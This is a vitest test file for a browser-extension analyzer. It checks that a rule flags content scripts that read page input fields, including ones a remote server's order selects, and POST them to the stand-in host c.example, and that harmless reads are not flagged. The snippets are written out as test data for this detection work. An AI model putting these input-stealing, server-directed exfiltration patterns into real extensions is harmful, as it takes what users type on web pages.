import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/** Rules at medium or above that tell of what a content script reads and sends as `data`. */
async function told(script: string): Promise<string[]> {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1.0',
    content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
  };
  const content = `const field = document.querySelector('#p'); ${script}`;
  const files = { 'manifest.json': JSON.stringify(manifest), 'content.js': content };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.flatMap(({ rule, severity }) => (/^(?:critical|high|medium)$/.test(severity) ? [rule] : []));
}

const SEND = "fetch('https://c.example/', { method: 'POST', body: JSON.stringify(data) });";
/** By what a server orders. */
const ordered = (script: string): string =>
  `fetch('https://c.example/order').then((r) => r.json()).then((order) => { ${script} ${SEND} });`;

describe('a property of a page’s field that code names by a value', () => {
  it.each([
    "const data = ['value', 'name'].map((name) => field[name]);",
    "const data = []; for (const name of ['value', 'innerText']) data.push(field[name]);",
    "const data = ['value', 'id'].reduce((all, name) => ((all[name] = field[name]), all), {});",
    "const names = { INPUT: 'value', DIV: 'innerText' }; const data = field[names[field.tagName]];",
    "const data = field[field.isContentEditable ? 'innerText' : 'value'];",
    "const nameOf = (one) => (one.tagName === 'INPUT' ? 'value' : 'innerText'); const data = field[nameOf(field)];",
    "const part = (one, path) => path.split('.').reduce((at, name) => at[name], one); const data = part(field, 'value');",
    "const rules = [{ at: '#p', name: 'value' }]; const data = rules.map((one) => document.querySelector(one.at)?.[one.name]);",
  ])('is read: %s', async (script) => {
    expect(await told(`${script} ${SEND}`)).toContain('input-to-network');
  });
  it.each([
    'const data = document.querySelector(order.at)[order.name];',
    'const data = order.names.map((name) => field[name]);',
    'const data = document[order.name];',
    'const verbs = { read: (at, name) => document.querySelector(at)[name] }; const data = order.steps.map((step) => verbs[step.verb](step.at, step.name));',
    'const verbs = { read: (at, name) => document.querySelector(at)[name] }; const data = order.steps.map(([verb, ...rest]) => verbs[verb](...rest));',
  ])('is whatever the order says: %s', async (script) => {
    expect(await told(ordered(script))).toContain('input-to-network');
  });
  it.each([
    "const data = ['offsetWidth', 'offsetHeight'].map((name) => field[name]);",
    "const data = field[field.isConnected ? 'checked' : 'disabled'];",
    "const own = document.createElement('input'); const data = ['value', 'id'].map((name) => own[name]);",
    "const box = field.getBoundingClientRect(); const data = ['x', 'y'].map((name) => box[name]);",
  ])('is nothing of a person: %s', async (script) => {
    expect(await told(`${script} ${SEND}`)).toEqual([]);
  });
  it('is nothing of a person where the order only names one of its own tables', async () => {
    expect(await told(ordered('const table = { dark: 1, light: 2 }; const data = table[order.name];'))).toEqual([]);
  });
});
